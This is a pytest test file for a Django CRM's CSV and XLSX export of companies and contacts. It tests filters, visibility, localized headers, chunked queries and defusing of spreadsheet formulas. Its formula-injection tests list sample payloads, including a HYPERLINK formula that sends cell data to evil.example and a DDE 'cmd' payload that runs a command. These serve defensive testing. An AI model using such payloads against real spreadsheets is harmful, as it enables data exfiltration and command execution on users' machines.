"""Export of companies and contacts: filters, the visibility rule, formulas defused, both
languages, and a big list read chunk by chunk."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import CompanyFactory, ContactFactory
from tradewind.customers.imports import export
from tradewind.customers.imports.sheets import neutralise
from tradewind.customers.models import Company
from tradewind.customers.selectors import CompanyFilters

pytestmark = pytest.mark.django_db


def csv_lines(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def xlsx_rows(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.fixture
def world(rep, other_rep):
    mine = CompanyFactory(owner=rep, name="Nordlicht Leuchten GmbH", country="DE")
    ContactFactory(company=mine, name="Anna Weber", email="anna@nordlicht.de")
    ContactFactory(company=mine, name="Ben Kraus", email="ben@nordlicht.de")
    CompanyFactory(owner=rep, name="Atlas Lighting LLC", country="US", website="atlas.com")
    secret = CompanyFactory(owner=other_rep, name="Geheimhandel GmbH", country="DE")
    ContactFactory(company=secret, name="Greta Geheim", email="greta@geheim.de")
    return mine


def test_the_csv_export_has_one_line_per_contact_and_only_what_i_may_see(client_of, rep, world):
    response = client_of(rep).get(reverse("imports:export"), {"format": "csv"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    lines = csv_lines(response)
    assert lines[0][:3] == ["Company name", "Country", "Website"]
    names = [(line[0], line[12]) for line in lines[1:]]
    assert sorted(names) == [
        ("Atlas Lighting LLC", ""),
        ("Nordlicht Leuchten GmbH", "Anna Weber"),
        ("Nordlicht Leuchten GmbH", "Ben Kraus"),
    ]
    assert "Geheim" not in str(lines)


def test_the_export_carries_the_list_filters(client_of, rep, world):
    response = client_of(rep).get(reverse("imports:export"), {"format": "csv", "country": "US"})
    assert [line[0] for line in csv_lines(response)[1:]] == ["Atlas Lighting LLC"]


def test_the_xlsx_export_has_the_same_rows(client_of, rep, world):
    response = client_of(rep).get(
        reverse("imports:export"), {"format": "xlsx", "q": "nordlicht", "sort": "name"}
    )
    rows = xlsx_rows(response)
    assert rows[0][0] == "Company name"
    assert [(row[0], row[14]) for row in rows[1:]] == [
        ("Nordlicht Leuchten GmbH", "anna@nordlicht.de"),
        ("Nordlicht Leuchten GmbH", "ben@nordlicht.de"),
    ]


def test_the_export_headers_follow_the_users_language(client_of, rep, world):
    from django.utils import translation

    rep.language = "zh-hans"
    rep.save()
    response = client_of(rep).get(reverse("imports:export"), {"format": "csv"})
    header = csv_lines(response)[0]
    with translation.override("zh-hans"):
        assert header == export.export_header()
    with translation.override("en"):
        assert header != export.export_header()


def test_an_export_can_be_imported_again_column_for_column():
    from tradewind.customers.imports.mapping import guess_mapping

    mapped = guess_mapping(export.export_header(), [])
    assert sorted(mapped.values()) == sorted(
        ["name", "country", "website", "customer_type", "source", "tags", "products_of_interest",
         "address", "notes", "contact_name", "title", "email", "phone", "whatsapp", "linkedin"]
    )  # fmt: skip


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("+4930123456", "+4930123456"),
        ("Nordlicht", "Nordlicht"),
    ],
)
def test_cells_a_spreadsheet_would_run_are_neutralised(value, safe):
    assert neutralise(value) == safe


def test_formula_names_are_defused_in_both_formats(client_of, rep):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    CompanyFactory(owner=rep, name=evil, country="DE", website="")
    client = client_of(rep)
    line = csv_lines(client.get(reverse("imports:export"), {"format": "csv"}))[1]
    assert line[0] == "'" + evil
    sheet = load_workbook(
        io.BytesIO(
            b"".join(client.get(reverse("imports:export"), {"format": "xlsx"}).streaming_content)
        )
    ).active
    cell = sheet["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (evil, "s", True)


def test_a_big_export_reads_companies_chunk_by_chunk(
    rep, django_assert_max_num_queries, monkeypatch
):
    monkeypatch.setattr(export, "EXPORT_CHUNK", 10)
    Company.objects.bulk_create(
        Company(name=f"Buyer {n}", name_normalized=f"buyer {n}", owner=rep) for n in range(45)
    )
    rows = export.export_rows(rep, CompanyFilters(), "en")
    first = next(rows)
    assert first[0].startswith("Buyer")
    # 5 chunks × (companies + contacts + tags) and the owner join: bounded, not one per company.
    with django_assert_max_num_queries(16):
        rest = list(rows)
    assert len(rest) == 44


def test_the_export_page_counts_what_will_be_exported_with_the_filters(client_of, rep, world):
    page = client_of(rep).get(reverse("imports:export"), {"country": "DE", "stage": "lead"})
    assert page.status_code == 200
    assert page.context["count"] == 1
    body = page.content.decode()
    assert "format=xlsx" in body and "country=DE" in body
    assert "Geheim" not in body
